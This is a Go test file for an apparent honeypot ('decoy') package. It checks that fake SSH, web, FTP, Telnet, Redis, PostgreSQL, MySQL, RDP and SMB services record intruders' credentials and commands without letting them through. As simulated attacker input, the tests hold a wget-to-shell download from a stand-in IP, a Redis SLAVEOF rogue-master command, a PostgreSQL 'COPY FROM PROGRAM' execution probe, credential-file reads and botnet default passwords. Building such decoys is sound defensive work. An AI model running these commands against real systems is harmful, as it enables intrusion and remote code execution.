package decoy

import (
	"bytes"
	"crypto/sha256"
	"crypto/tls"
	"encoding/hex"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"

	"golang.org/x/crypto/ssh"

	"holdfast/isms"
)

func TestTheServicesAreThoseOfTheRecords(t *testing.T) {
	var names []string
	for _, c := range isms.TrapType("").Choices() {
		if isms.TrapType(c.Value).Decoy() {
			names = append(names, c.Value)
		}
	}
	got := serviceNames()
	slices.Sort(names)
	slices.Sort(got)
	if !slices.Equal(got, names) {
		t.Errorf("services %v, records know %v", got, names)
	}
}

func TestAnSSHVisitorIsRecordedAndNeverLetInUnasked(t *testing.T) {
	s := stand(t, "ssh", Options{}, Limits{})
	key, err := (&keys{secret: make([]byte, 32)}).curveKey("visitor")
	if err != nil {
		t.Fatal(err)
	}
	signer, err := ssh.NewSignerFromKey(key)
	if err != nil {
		t.Fatal(err)
	}
	secrets := []string{"123456", "geheim\x1b[2J"}
	_, err = ssh.Dial("tcp", s.at, &ssh.ClientConfig{User: "root", HostKeyCallback: ssh.InsecureIgnoreHostKey(), ClientVersion: "SSH-2.0-paramiko_3.4.0",
		Auth: []ssh.AuthMethod{ssh.PublicKeys(signer), ssh.RetryableAuthMethod(ssh.PasswordCallback(func() (string, error) {
			secret := secrets[0]
			secrets = append(secrets[1:], secret)
			return secret, nil
		}), 2)}})
	if err == nil {
		t.Fatal("a visitor was let in")
	}
	v := s.visit(t)
	expect(t, "tried", tried(v), "root/"+ssh.FingerprintSHA256(signer.PublicKey())+"/public key ecdsa-sha2-nistp256 root/123456/password root/geheim\\x1b[2J/password")
	expect(t, "client", v.Client, "SSH-2.0-paramiko_3.4.0")
	expect(t, "tool", v.Tool, "paramiko")
	if !slices.Contains(v.Tokens, ssh.FingerprintSHA256(signer.PublicKey())) {
		t.Errorf("the key is no mark: %v", v.Tokens)
	}
	s.alone(t)
}

func sshInto(t *testing.T, s *standing) *ssh.Client {
	t.Helper()
	c, err := ssh.Dial("tcp", s.at, &ssh.ClientConfig{User: "root", HostKeyCallback: ssh.InsecureIgnoreHostKey(), Auth: []ssh.AuthMethod{ssh.Password("toor")}})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { c.Close() })
	return c
}

func TestTheShellAnswersFromItsTableAndReachesNobody(t *testing.T) {
	s := stand(t, "ssh", Options{LetIn: 1, Host: "db07", Files: map[string]string{"/root/.aws/config": "bait\n"}}, Limits{})
	c := sshInto(t, s)
	for command, want := range map[string]string{
		"whoami; id": "root\nuid=0(root) gid=0(root) groups=0(root)\n", "cat /root/.aws/config": "bait\n",
		"uname -r": "6.1.0-18-amd64\n", "hostname": "db07\n", "echo -n $HOME": "/root", "ls -a": ".aws\n.bashrc\n.ssh\n",
		"cat /proc/self/environ":            "cat: /proc/self/environ: No such file or directory\n",
		"wget http://203.0.113.9/x -O- |sh": "wget: unable to resolve host address '203.0.113.9'\n",
		"./exploit":                         "-bash: ./exploit: command not found\n",
	} {
		session, err := c.NewSession()
		if err != nil {
			t.Fatal(err)
		}
		out, err := session.Output(command)
		if err != nil || string(out) != want {
			t.Errorf("%s: %q, %v, want %q", command, out, err, want)
		}
	}
	if _, err := c.Dial("tcp", "10.0.0.1:25"); err == nil || !strings.Contains(err.Error(), "prohibited") {
		t.Errorf("a visitor reached somebody through the decoy: %v", err)
	}
	if _, err := c.Listen("tcp", "127.0.0.1:0"); err == nil {
		t.Error("a visitor listens on the decoy")
	}
	c.Close()
	v := s.visit(t)
	for _, want := range []string{"whoami; id", "wget http://203.0.113.9/x -O- |sh", "[direct-tcpip] 10.0.0.1:25", "[forward back] 127.0.0.1:0"} {
		if !slices.Contains(v.Commands, want) {
			t.Errorf("%q is not among %q", want, v.Commands)
		}
	}
}

func TestAWebVisitorIsRecorded(t *testing.T) {
	id, err := NewID(bytes.NewReader(bytes.Repeat([]byte{7}, 15)))
	if err != nil {
		t.Fatal(err)
	}
	for _, service := range []string{"http", "https"} {
		for _, look := range lookNames() {
			s := stand(t, service, Options{Look: look, Title: "A & B <gate>"}, Limits{})
			client := &http.Client{Transport: &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true, ServerName: "gate.example.org"}}}
			resp, err := client.PostForm(service+"://"+s.at+"/login?next=/", url.Values{"username": {"admin"}, "password": {"p&ss wörd"}, "csrf": {id}})
			if err != nil {
				t.Fatal(err)
			}
			page, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			client.CloseIdleConnections()
			if !strings.Contains(string(page), "The name or the password is wrong.") || !strings.Contains(string(page), "A &amp; B &lt;gate&gt;") {
				t.Errorf("%s %s: %s", service, look, page)
			}
			v := s.visit(t)
			expect(t, "tried", tried(v), "admin/p&ss wörd/form")
			expect(t, "path", strings.Join(v.Paths, " "), "POST /login?next=/")
			expect(t, "tool", v.Tool, "Go net/http")
			expect(t, "token", strings.Join(v.Tokens, " "), id)
			if !bytes.Contains(v.Sample, []byte("POST /login")) {
				t.Errorf("%s: the sample does not hold the request", service)
			}
			s.alone(t)
		}
	}
}

func TestGuessesAreReadWhereverTheyAreWritten(t *testing.T) {
	for _, c := range []struct{ head, body, want string }{
		{"GET / HTTP/1.1\r\nHost: x\r\nAuthorization: Basic YWRtaW46YWRtaW4=\r\n", "", "admin/admin/basic"},
		{"POST /api HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n", `{"email":"a@b.example","password":"x","n":1}`, "a@b.example/x/form"},
		{"GET /?user=u&pass=p HTTP/1.1\r\nHost: x\r\n", "", "u/p/form"},
		{"GET / HTTP/1.1\r\nHost: x\r\n", "", ""},
	} {
		s := stand(t, "http", Options{}, Limits{})
		chat(t, s.dial(t), "", fmt.Sprintf("%sContent-Length: %d\r\nConnection: close\r\n\r\n%s", c.head, len(c.body), c.body))
		expect(t, c.head, tried(s.visit(t)), c.want)
	}
}

func TestAnFTPVisitorIsRecorded(t *testing.T) {
	s := stand(t, "ftp", Options{}, Limits{})
	said := chat(t, s.dial(t), "220 ", "USER ftpadmin\r\n", "331", "PASS s3cret pass\r\n", "530", "PORT 10,0,0,1,0,25\r\n", "530", "QUIT\r\n")
	if !strings.HasSuffix(said, "221 Goodbye.\r\n") {
		t.Errorf("said %q", said)
	}
	v := s.visit(t)
	expect(t, "tried", tried(v), "ftpadmin/s3cret pass/password")
	expect(t, "commands", strings.Join(v.Commands, "|"), "PORT 10,0,0,1,0,25")
	s.alone(t)
}

func TestATelnetVisitorIsRecorded(t *testing.T) {
	s := stand(t, "telnet", Options{LetIn: 2}, Limits{})
	said := chat(t, s.dial(t), "login: ", "root\r\n", "Password: ", "xc3511\r\n", "login: ", "ro\x7f\xff\xfd\x01oot\r\x00", "Password: ", "vizxv\r\n", "# ", "enable; cat /etc/hostname\r\n", "# ", "exit\r\n")
	if strings.Contains(said, "vizxv") || !strings.Contains(said, "files01\r\n") {
		t.Errorf("said %q", said)
	}
	v := s.visit(t)
	expect(t, "tried", tried(v), "root/xc3511/password root/vizxv/password")
	expect(t, "commands", strings.Join(v.Commands, "|"), "enable; cat /etc/hostname|exit")
	s.alone(t)
}

func TestAnEndOfLineInTwoPacketsIsOneEnd(t *testing.T) {
	s := stand(t, "telnet", Options{}, Limits{})
	chat(t, s.dial(t), "login: ", "root\r", "Password: ", "\npass\r", "incorrect", "\n", "login: ", "sys\r", "Password: ", "\x00x\n")
	expect(t, "tried", tried(s.visit(t)), "root/pass/password sys/x/password")
}

func TestARedisVisitorIsRecorded(t *testing.T) {
	s := stand(t, "redis", Options{}, Limits{})
	said := chat(t, s.dial(t), "", "*3\r\n$6\r\nCONFIG\r\n$3\r\nGET\r\n$3\r\ndir\r\n", "/var/lib/redis", "SLAVEOF 203.0.113.9 6379\r\n", "+OK", "*2\r\n$4\r\nAUTH\r\n$6\r\nfoobar\r\n", "-ERR", "QUIT\r\n")
	if !strings.HasSuffix(said, "+OK\r\n") {
		t.Errorf("said %q", said)
	}
	v := s.visit(t)
	expect(t, "tried", tried(v), "default/foobar/password")
	expect(t, "commands", strings.Join(v.Commands, "|"), "CONFIG GET dir|SLAVEOF 203.0.113.9 6379|QUIT")

	locked := stand(t, "redis", Options{Locked: true, LetIn: 2}, Limits{})
	said = chat(t, locked.dial(t), "", "KEYS *\r\n", "-NOAUTH", "AUTH a b\r\n", "-WRONGPASS", "HELLO 3 AUTH c d\r\n", "+OK", "DBSIZE\r\n")
	if !strings.HasSuffix(said, ":3\r\n") {
		t.Errorf("said %q", said)
	}
	expect(t, "tried", tried(locked.visit(t)), "a/b/password c/d/password")
}

func TestAPostgreSQLVisitorIsRecorded(t *testing.T) {
	start := pgMessage(0, append([]byte{0, 3, 0, 0}, "user\x00app\x00database\x00payroll\x00application_name\x00psql\x00\x00"...)...)[1:]
	s := stand(t, "postgresql", Options{LetIn: 1}, Limits{})
	said := chat(t, s.dial(t), "", "\x00\x00\x00\x08\x04\xd2\x16\x2f", "N", string(start), "R\x00\x00\x00\x08\x00\x00\x00\x03", string(pgMessage('p', []byte("hunter2\x00")...)),
		"Z\x00\x00\x00\x05I", string(pgMessage('Q', []byte("select version();\x00")...)), "Z\x00\x00\x00\x05I", string(pgMessage('Q', []byte("COPY t FROM PROGRAM 'id'\x00")...)), "Z\x00\x00\x00\x05I", "X\x00\x00\x00\x04")
	if !strings.Contains(said, "PostgreSQL 15.8") || !strings.Contains(said, "permission denied") {
		t.Errorf("said %q", said)
	}
	v := s.visit(t)
	expect(t, "tried", tried(v), "app/hunter2/password")
	expect(t, "commands", strings.Join(v.Commands, "|"), "[database] payroll|select version();|COPY t FROM PROGRAM 'id'")
	expect(t, "tool", v.Tool, "psql")
	s.alone(t)

	deaf := stand(t, "postgresql", Options{}, Limits{})
	said = chat(t, deaf.dial(t), "", string(start), "R\x00\x00\x00\x08\x00\x00\x00\x03", string(pgMessage('p', []byte("x\x00")...)))
	if !strings.Contains(said, `password authentication failed for user "app"`) {
		t.Errorf("said %q", said)
	}
	expect(t, "tried", tried(deaf.visit(t)), "app/x/password")
}

// myClient answers a greeting as clients do.
func myClient(user string, response []byte, plugin string) []byte {
	b := []byte{0x0d, 0xa2, 0x18, 0, 0, 0, 0, 1, 33}
	b = append(b, make([]byte, 23)...)
	b = append(append(b, user...), 0, byte(len(response)))
	b = append(append(append(b, response...), "shop\x00"...), plugin+"\x00"...)
	attrs := "\x0c_client_name\x0alibmariadb\x0cprogram_name\x05mysql"
	return myPacket(1, append(append(b, byte(len(attrs))), attrs...))
}

func TestAMySQLVisitorIsRecorded(t *testing.T) {
	response := bytes.Repeat([]byte{0xab}, 20)
	s := stand(t, "mysql", Options{}, Limits{})
	said := chat(t, s.dial(t), myNative+"\x00", string(myClient("wp", response, myNative)))
	if !strings.Contains(said, "Access denied for user 'wp'@'127.0.0.1' (using password: YES)") {
		t.Errorf("said %q", said)
	}
	v := s.visit(t)
	if len(v.Credentials) != 1 || v.Credentials[0].User != "wp" || !strings.HasPrefix(v.Credentials[0].Secret, "$mysqlna$") || !strings.HasSuffix(v.Credentials[0].Secret, "*"+hex.EncodeToString(response)) {
		t.Errorf("tried %s", tried(v))
	}
	expect(t, "commands", strings.Join(v.Commands, "|"), "[database] shop")
	expect(t, "tool", v.Tool, "mariadb client")
	s.alone(t)

	inside := stand(t, "mysql", Options{LetIn: 1}, Limits{})
	said = chat(t, inside.dial(t), myNative+"\x00", string(myClient("wp", response, "caching_sha2_password")), myNative+"\x00", string(myPacket(3, response)),
		"\x00\x00\x00\x02\x00\x00\x00", string(myPacket(0, []byte("\x03select version()"))), "8.0.36", string(myPacket(0, []byte("\x03drop table users"))), "denied", string(myPacket(0, []byte{1})))
	v = inside.visit(t)
	expect(t, "commands", strings.Join(v.Commands, "|"), "[database] shop|select version()|drop table users")
	_ = said
}

func TestARemoteDesktopVisitorIsRecorded(t *testing.T) {
	s := stand(t, "rdp", Options{}, Limits{})
	c := s.dial(t)
	cookie := "Cookie: mstshash=CORP\\kim\r\n"
	packet := append([]byte{byte(6 + len(cookie) + 8), 0xe0, 0, 0, 0, 0, 0}, cookie+"\x01\x00\x08\x00\x03\x00\x00\x00"...)
	c.Write(append([]byte{3, 0, 0, byte(len(packet) + 4)}, packet...))
	answer := make([]byte, 19)
	if _, err := io.ReadFull(c, answer); err != nil || answer[5] != 0xd0 || answer[15] != rdpHybrid {
		t.Fatalf("answer %x, %v", answer, err)
	}
	secure := tls.Client(c, &tls.Config{InsecureSkipVerify: true})
	ask := append(slices.Clone(ntlmSignature), make([]byte, 32)...)
	ask[8] = 1
	secure.Write(der(0x30, der(0xa1, ask)))
	challenge := make([]byte, 512)
	n, err := secure.Read(challenge)
	m, number := ntlmMessage(challenge[:n])
	if err != nil || number != 2 {
		t.Fatalf("challenge %x, %v", challenge[:n], err)
	}
	secure.Write(der(0x30, der(0xa1, ntlmAnswer("CORP", "kim", "LAPTOP9"))))
	io.ReadAll(secure)
	v := s.visit(t)
	want := `CORP\kim//mstshash CORP\kim/kim::CORP:` + hex.EncodeToString(m[24:32]) + ":" + strings.Repeat("11", 16) + ":" + strings.Repeat("22", 20) + "/ntlm"
	expect(t, "tried", tried(v), want)
	if !slices.Contains(v.Headers, Header{"workstation", "LAPTOP9"}) {
		t.Errorf("headers %v", v.Headers)
	}
	s.alone(t)
}

// ntlmAnswer is message 3 with a response of ones and twos.
func ntlmAnswer(domain, user, machine string) []byte {
	m := append(slices.Clone(ntlmSignature), 3, 0, 0, 0)
	response := append(bytes.Repeat([]byte{0x11}, 16), bytes.Repeat([]byte{0x22}, 20)...)
	at := 64
	var tail []byte
	for _, part := range [][]byte{nil, response, utf16Bytes(domain), utf16Bytes(user), utf16Bytes(machine), nil} {
		m = appendField(m, len(part), at)
		tail = append(tail, part...)
		at += len(part)
	}
	return append(append(m, 1, 0, 0, 0), tail...)
}

func TestAFileServerVisitorIsRecorded(t *testing.T) {
	s := stand(t, "smb", Options{Host: "files01"}, Limits{})
	c := s.dial(t)
	ask := func(body []byte, command byte) []byte {
		head := make([]byte, 64)
		copy(head, "\xfeSMB")
		head[12] = command
		m := append(head, body...)
		c.Write(append([]byte{0, 0, byte(len(m) >> 8), byte(len(m))}, m...))
		size := make([]byte, 4)
		if _, err := io.ReadFull(c, size); err != nil {
			t.Fatal(err)
		}
		answer := make([]byte, int(size[2])<<8|int(size[3]))
		if _, err := io.ReadFull(c, answer); err != nil {
			t.Fatal(err)
		}
		return answer
	}
	negotiation := append([]byte{36, 0, 2, 0}, make([]byte, 32)...)
	if a := ask(append(negotiation, 0x02, 0x02, 0x11, 0x03), smbNegotiate); a[68] != 0x02 || a[69] != 0x02 {
		t.Errorf("dialect %x", a[68:70])
	}
	setup := func(token []byte) []byte {
		b := make([]byte, 24)
		b[0], b[12], b[14] = 25, 88, byte(len(token))
		return append(b, token...)
	}
	first := append(slices.Clone(ntlmSignature), make([]byte, 32)...)
	first[8] = 1
	a := ask(setup(first), smbSessionSetup)
	m, number := ntlmMessage(a)
	if number != 2 || !bytes.Contains(m, utf16Bytes("FILES01")) {
		t.Fatalf("challenge %x", a)
	}
	if a := ask(setup(ntlmAnswer("", "svc", "WS1")), smbSessionSetup); a[8] != 0x6d {
		t.Errorf("a visitor was let in: %x", a[:12])
	}
	c.Close()
	v := s.visit(t)
	expect(t, "tried", tried(v), "svc/svc:::"+hex.EncodeToString(m[24:32])+":"+strings.Repeat("11", 16)+":"+strings.Repeat("22", 20)+"/ntlm")
	s.alone(t)
}

func TestAPlainPortKeepsWhatWasSent(t *testing.T) {
	s := stand(t, "port", Options{Banner: "READY"}, Limits{})
	chat(t, s.dial(t), "READY\r\n", "@PJL INFO ID\r\n\x00\xff\u202e")
	v := s.visit(t)
	expect(t, "commands", strings.Join(v.Commands, "|"), `@PJL INFO ID|\x00\xff\u202e`)
	sent := "@PJL INFO ID\r\n\x00\xff\u202e"
	sum := sha256.Sum256([]byte(sent))
	if string(v.Sample) != sent || v.SHA256 != hex.EncodeToString(sum[:]) || v.Received != int64(len(sent)) || v.Ended != EndedByVisitor {
		t.Errorf("%+v", v)
	}
	s.alone(t)
}
